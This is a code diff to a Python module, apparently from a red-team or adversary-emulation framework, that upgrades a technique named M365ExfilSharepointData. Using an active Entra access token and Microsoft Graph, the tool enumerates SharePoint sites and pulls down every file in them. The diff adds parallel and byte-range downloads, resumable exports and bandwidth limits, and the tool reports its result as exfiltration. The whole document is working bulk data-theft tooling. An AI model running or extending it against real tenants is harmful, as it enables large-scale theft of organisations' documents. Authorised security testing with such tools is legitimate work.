@@ -1,11 +1,12 @@
 from ..base_technique import BaseTechnique, ExecutionStatus, MitreTechnique, TechniqueNote
 from ..technique_registry import TechniqueRegistry
-from typing import Dict, Any, Tuple, List
+from typing import Dict, Any, Tuple, List, Iterator
 from core.entra.graph_request import GraphRequest
 import os
 import datetime
 import requests
 from core.entra.entra_token_manager import EntraTokenManager
+from core.transfer.download_engine import DownloadEngine, DownloadTask
 
 @TechniqueRegistry.register
 class M365ExfilSharepointData(BaseTechnique):
@@ -29,6 +30,7 @@ class M365ExfilSharepointData(BaseTechnique):
             TechniqueNote("Set target_site parameter to focus exfiltration on a specific site by name or URL"),
             TechniqueNote("Large sites may take significant time to download; consider using target_site for initial testing"),
             TechniqueNote("Creates timestamped output directory to prevent overwrites"),
+            TechniqueNote("Files are downloaded in parallel, large files in byte ranges. Set resume_path to a previous export path to skip files already downloaded"),
             TechniqueNote("Requires appropriate Graph API permissions (Sites.Read.All, Sites.ReadWrite.All)")
         ]
         super().__init__(
@@ -93,14 +95,18 @@ class M365ExfilSharepointData(BaseTechnique):
             
         return response
 
-    def _download_file(self, site_id: str, file_id: str, local_path: str) -> None:
+    def _fetch_file(self, site_id: str, file_id: str, start: int = None, end: int = None) -> Iterator[bytes]:
         """
-        Downloads a single file from SharePoint.
+        Downloads a file, or a byte range of a file, from SharePoint.
         
         Args:
             site_id: ID of the SharePoint site
             file_id: ID of the file to download
-            local_path: Path where file should be saved
+            start: Optional first byte of the range to download
+            end: Optional last byte (inclusive) of the range to download
+            
+        Returns:
+            Iterator of file content chunks
             
         Raises:
             Exception: If file download fails
@@ -109,33 +115,23 @@ class M365ExfilSharepointData(BaseTechnique):
         manager = EntraTokenManager()
         token = manager.get_active_token()
         headers = manager.create_auth_header(token)
+        if start is not None:
+            # Ranges are served by the pre-authenticated download URL the content endpoint redirects to
+            headers["Range"] = f"bytes={start}-{end}"
         
         try:
             response = requests.get(url=endpoint_url, headers=headers, stream=True)
-            
-            # Check if response is an error message (JSON)
-            if isinstance(response.content, dict):
-                if 'error' in response:
-                    raise Exception(f"API Error: {response['error']}")
-                raise Exception(f"Unexpected JSON response: {response}")
-                
-            # Check if response is bytes
-            if not isinstance(response.content, bytes):
-                raise Exception(f"Unexpected response type: {type(response)}")
-
-            # Ensure directory exists
-            os.makedirs(os.path.dirname(local_path), exist_ok=True)
-            
-            # Write the file content to local path
-            with open(local_path, 'wb') as file:
-                for chunk in response.iter_content(chunk_size=8192):
-                    if chunk:
-                        file.write(chunk)
-                
+            response.raise_for_status()
+            # A server ignoring the range returns the whole file, which must not be written as a part
+            if start is not None and response.status_code != 206:
+                response.close()
+                raise Exception(f"Range request returned status {response.status_code} instead of 206")
         except Exception as e:
             raise Exception(f"Download failed: {str(e)}")
 
-    def _process_folder(self, site_id: str, folder_id: str, local_base_path: str, folder_path: str = "") -> Tuple[int, int]:
+        return response.iter_content(chunk_size=1024 * 1024)
+
+    def _process_folder(self, site_id: str, folder_id: str, local_base_path: str, download_tasks: List[DownloadTask], folder_path: str = "") -> Tuple[int, int]:
         """
         Recursively processes a folder and its contents.
         
@@ -143,10 +139,11 @@ class M365ExfilSharepointData(BaseTechnique):
             site_id: ID of the SharePoint site
             folder_id: ID of the folder to process
             local_base_path: Base path for local file storage
+            download_tasks: List the download tasks of files are added to
             folder_path: Current folder path relative to base
             
         Returns:
-            Tuple of (files downloaded, folders processed)
+            Tuple of (files found, folders processed)
         """
         files_count = 0
         folders_count = 0
@@ -164,6 +161,7 @@ class M365ExfilSharepointData(BaseTechnique):
                     site_id, 
                     item_id,
                     local_base_path,
+                    download_tasks,
                     new_folder_path
                 )
                 files_count += f_count
@@ -172,11 +170,17 @@ class M365ExfilSharepointData(BaseTechnique):
                 files_count += 1
                 file_path = os.path.join(folder_path, item_name)
                 local_file_path = os.path.join(local_base_path, file_path)
-                
-                try:
-                    self._download_file(site_id, item_id, local_file_path)
-                except Exception as e:
-                    print(f"Failed to download {file_path}: {str(e)}")
+
+                def fetch(start: int = None, end: int = None, item_id: str = item_id) -> Iterator[bytes]:
+                    return self._fetch_file(site_id, item_id, start, end)
+
+                download_tasks.append(DownloadTask(
+                    key=file_path,
+                    local_path=local_file_path,
+                    fetch=fetch,
+                    size=item.get('size'),
+                    version=item.get('eTag')
+                ))
                     
         return files_count, folders_count
 
@@ -184,10 +188,17 @@ class M365ExfilSharepointData(BaseTechnique):
         """Executes the SharePoint exfiltration technique"""
         try:
             target_site = kwargs.get('target_site')
+            max_workers = kwargs.get('max_workers', DownloadEngine.DEFAULT_MAX_WORKERS) or DownloadEngine.DEFAULT_MAX_WORKERS
+            bandwidth_limit = kwargs.get('bandwidth_limit')
+            resume_path = kwargs.get('resume_path')
             
-            # Create timestamp-based output directory
-            timestamp = datetime.datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
-            base_output_dir = f"./output/sharepoint_export/{timestamp}"
+            if resume_path:
+                # Continue a previous export, skipping files already downloaded
+                base_output_dir = resume_path
+            else:
+                # Create timestamp-based output directory
+                timestamp = datetime.datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
+                base_output_dir = f"./output/sharepoint_export/{timestamp}"
             
             # Get sites based on target parameter
             sites = self._enumerate_sites(target_site)
@@ -207,7 +218,9 @@ class M365ExfilSharepointData(BaseTechnique):
             total_stats = {
                 "sites_processed": 0,
                 "files_downloaded": 0,
+                "files_failed": 0,
                 "folders_processed": 0,
+                "bytes_downloaded": 0,
                 "sites": []
             }
             
@@ -225,20 +238,36 @@ class M365ExfilSharepointData(BaseTechnique):
                     os.makedirs(site_dir, exist_ok=True)
                     
                     # Process root folder
+                    download_tasks = []
                     files_count, folders_count = self._process_folder(
                         site_info['id'],
                         None,
-                        site_dir
+                        site_dir,
+                        download_tasks
+                    )
+
+                    # Download site files concurrently
+                    engine = DownloadEngine(
+                        site_dir,
+                        max_workers=max_workers,
+                        max_bytes_per_second=bandwidth_limit * 1024 * 1024 if bandwidth_limit else None
                     )
+                    transfer_stats = engine.download(download_tasks)
+                    files_downloaded = transfer_stats["downloaded"] + transfer_stats["skipped"]
                     
                     site_info.update({
-                        "files_downloaded": files_count,
+                        "files_found": files_count,
+                        "files_downloaded": files_downloaded,
+                        "files_failed": transfer_stats["failed"],
                         "folders_processed": folders_count,
-                        "status": "success"
+                        "transfer_stats": transfer_stats,
+                        "status": "success" if transfer_stats["failed"] == 0 else "partial_success"
                     })
                     
-                    total_stats["files_downloaded"] += files_count
+                    total_stats["files_downloaded"] += files_downloaded
+                    total_stats["files_failed"] += transfer_stats["failed"]
                     total_stats["folders_processed"] += folders_count
+                    total_stats["bytes_downloaded"] += transfer_stats["bytes"]
                     
                 except Exception as e:
                     site_info.update({
@@ -249,7 +278,7 @@ class M365ExfilSharepointData(BaseTechnique):
                 total_stats["sites"].append(site_info)
                 total_stats["sites_processed"] += 1
 
-            return ExecutionStatus.SUCCESS, {
+            return ExecutionStatus.SUCCESS if total_stats["files_failed"] == 0 else ExecutionStatus.PARTIAL_SUCCESS, {
                 "message": f"Successfully exfiltrated {total_stats['sites_processed']} SharePoint site(s)",
                 "value": {
                     "export_path": base_output_dir,
@@ -272,5 +301,26 @@ class M365ExfilSharepointData(BaseTechnique):
                 "default": None,
                 "name": "Target Site Name",
                 "input_field_type": "text"
+            },
+            "max_workers": {
+                "type": "int",
+                "required": False,
+                "default": DownloadEngine.DEFAULT_MAX_WORKERS,
+                "name": "Max Parallel Downloads",
+                "input_field_type": "number"
+            },
+            "bandwidth_limit": {
+                "type": "int",
+                "required": False,
+                "default": None,
+                "name": "Bandwidth Limit (MB/s)",
+                "input_field_type": "number"
+            },
+            "resume_path": {
+                "type": "str",
+                "required": False,
+                "default": None,
+                "name": "Resume Export Path",
+                "input_field_type": "text"
             }
         }
\ No newline at end of file